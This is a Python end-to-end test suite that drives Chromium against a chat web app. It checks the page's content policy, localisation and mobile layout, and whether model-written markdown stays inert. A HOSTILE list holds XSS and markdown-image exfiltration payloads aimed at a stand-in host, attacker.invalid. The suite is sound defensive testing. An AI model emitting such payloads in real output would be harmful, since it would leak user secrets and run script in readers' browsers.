"""A real Chromium on the guarded page: it works under the policy, asks no other host and runs nothing it was sent."""

import asyncio
import shutil
from collections.abc import AsyncIterator
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Dialog, Page, async_playwright

from tests.e2e.running_app import RunningApp

pytestmark = pytest.mark.e2e

FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
]
ANSWER = '[data-step-type="assistant_message"] .message-content'
HOSTILE = [
    "![a](https://attacker.invalid/?q=SECRET)",
    "![a][r]\n\n[r]: https://attacker.invalid/?q=SECRET",
    "![a](//attacker.invalid/x.png)",
    "![v](https://attacker.invalid/x.mp4?q=SECRET)",
    "<img src=https://attacker.invalid/x onerror=alert(1)>",
    "<iframe src=https://attacker.invalid></iframe>",
    "<script>alert(1)</script><svg/onload=alert(1)>",
    "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>)",
    "```\n</code></pre><script>alert(1)</script>\n```",
]


class Visit:
    """One browser tab, and a server that the attacker's name leads to: what it hears has got out."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.heard_by_attacker = 0
        self.asked: set[str] = set()
        self.refusals: list[str] = []
        self.alerts: list[str] = []
        page.on("request", lambda request: self.asked.add(urlsplit(request.url).netloc))
        page.on("console", lambda line: self.refusals.append(line.text) if "Content Security" in line.text else None)
        page.on("dialog", self._dismiss)

    async def _dismiss(self, dialog: Dialog) -> None:
        self.alerts.append(dialog.message)
        await dialog.dismiss()

    async def say(self, text: str, *, answers: int = 1) -> None:
        """Send `text` and wait until the page shows so many answers, and has loaded what it means to load."""
        await self.page.fill("#chat-input", text)
        await self.page.click("#chat-submit:not([disabled])")
        await self.page.locator(ANSWER).nth(answers - 1).wait_for()
        await self.page.wait_for_selector("#chat-submit")
        await self.page.wait_for_load_state("networkidle")


@pytest.fixture
async def visit(server: RunningApp) -> AsyncIterator[Visit]:
    async def hear(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        visit.heard_by_attacker += 1
        writer.close()

    async with await asyncio.start_server(hear, "127.0.0.1", 0) as attacker, async_playwright() as playwright:
        port = attacker.sockets[0].getsockname()[1]
        rules = f"--host-resolver-rules=MAP attacker.invalid 127.0.0.1:{port}"
        browser = await playwright.chromium.launch(executable_path=shutil.which("chromium"), args=[*FLAGS, rules])
        visit = Visit(
            await browser.new_page(locale="zh-HK", color_scheme="dark", viewport={"width": 360, "height": 740})
        )
        await visit.page.goto(server.url)
        await visit.page.wait_for_selector("#chat-input")
        yield visit
        await browser.close()


async def test_the_page_works_and_talks_to_nobody_else(visit: Visit, server: RunningApp) -> None:
    await visit.say("hello")
    assert (
        await visit.page.inner_text('[data-step-type="assistant_message"] .message-content') == "You sent 5 characters."
    )
    assert visit.asked == {f"127.0.0.1:{server.port}"}
    assert visit.refusals == []


async def test_it_speaks_the_readers_language_and_follows_the_system_theme(visit: Visit) -> None:
    root = visit.page.locator("html")
    assert await root.get_attribute("lang") == "zh-HK"
    assert "dark" in str(await root.get_attribute("class"))
    assert await visit.page.get_attribute("#chat-input", "placeholder") == "想問什麼都可以"


async def test_a_phone_has_no_sideways_scroll(visit: Visit) -> None:
    await visit.say(
        "say | a | b |\n| - | - |\n| " + "x" * 200 + " | " + "y" * 200 + " |\n\n```\n" + "z" * 500 + "\n```"
    )
    assert await visit.page.evaluate("document.documentElement.scrollWidth") == 360


async def test_what_a_model_writes_neither_runs_nor_reaches_out(visit: Visit) -> None:
    for number, markdown in enumerate(HOSTILE, start=1):
        await visit.say(f"say {markdown}", answers=number)
        assert visit.heard_by_attacker == 0, markdown
        assert visit.alerts == [], markdown
    links = await visit.page.eval_on_selector_all(".message-content a", "all => all.map(a => a.protocol)")
    assert not {"javascript:", "data:"} & set(links)
    assert await visit.page.locator(".message-content :is(script, iframe, object, embed, form)").count() == 0
